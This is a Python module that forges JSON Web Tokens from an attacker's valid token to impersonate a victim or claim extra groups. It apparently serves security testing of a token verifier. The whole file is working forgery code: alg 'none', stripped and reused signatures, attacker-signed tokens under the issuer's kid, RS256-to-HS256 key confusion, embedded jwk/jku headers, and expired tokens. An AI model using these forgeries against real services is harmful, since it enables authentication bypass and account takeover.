"""Tokens that are not what they seem, made from one that is."""

import base64
import hashlib
import hmac
import json
import random
import time
from collections.abc import Callable, Mapping, Sequence
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

VICTIM_CLAIMS: Mapping[str, Any] = {"tenant": "victim", "groups": ["board", "sales"], "writer": True, "sub": "victim"}


class Forge:
    """Alters the attacker's token; `public_key` is what everybody may know of the issuer's key."""

    def __init__(self, token: str, public_key: str) -> None:
        self._token = token
        self._public_key = public_key
        self._claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
        self._headers: dict[str, Any] = dict(jwt.get_unverified_header(token))
        self._own_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def forged(self, dice: random.Random) -> str:
        """Return a token that says it is the victim's, or the attacker's with other groups."""
        lies: Sequence[Mapping[str, Any]] = (
            VICTIM_CLAIMS, {"groups": ["board", "hr"]}, {"groups": ["*"]}, {"writer": True},
        )  # fmt: skip
        claims = {**self._claims, **dice.choice(lies)}
        ways: tuple[Callable[[dict[str, Any]], str], ...] = (
            self._unsigned, self._with_old_signature, self._with_own_key, self._with_public_key, self._with_key_inside,
            self._expired_long_ago, self._without_signature,
        )  # fmt: skip
        return dice.choice(ways)(claims)

    def _unsigned(self, claims: dict[str, Any]) -> str:
        return f"{_part({**self._headers, 'alg': 'none'})}.{_part(claims)}."

    def _without_signature(self, claims: dict[str, Any]) -> str:
        return f"{_part(self._headers)}.{_part(claims)}.AA"

    def _with_old_signature(self, claims: dict[str, Any]) -> str:
        head, _, signature = self._token.split(".")
        return f"{head}.{_part(claims)}.{signature}"

    def _with_own_key(self, claims: dict[str, Any]) -> str:
        return jwt.encode(claims, self._own_key, "RS256", headers={"kid": self._headers["kid"]})

    def _with_public_key(self, claims: dict[str, Any]) -> str:
        """Sign with the issuer's public key as if it were a shared secret."""
        signed = f"{_part({**self._headers, 'alg': 'HS256'})}.{_part(claims)}"
        digest = hmac.digest(self._public_key.encode(), signed.encode(), hashlib.sha256)
        return f"{signed}.{base64.urlsafe_b64encode(digest).decode().rstrip('=')}"

    def _with_key_inside(self, claims: dict[str, Any]) -> str:
        numbers = self._own_key.public_key().public_numbers()
        key = {"kty": "RSA", "n": _number(numbers.n), "e": _number(numbers.e), "kid": "x"}
        headers = {"kid": "x", "jwk": key, "jku": "http://127.0.0.1:1/jwks.json"}
        return jwt.encode(claims, self._own_key, "RS256", headers=headers)

    def _expired_long_ago(self, claims: dict[str, Any]) -> str:
        return jwt.encode({**claims, "exp": int(time.time()) - 10**6}, self._own_key, "RS256")


def _part(value: Mapping[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def _number(value: int) -> str:
    return base64.urlsafe_b64encode(value.to_bytes((value.bit_length() + 7) // 8)).decode().rstrip("=")
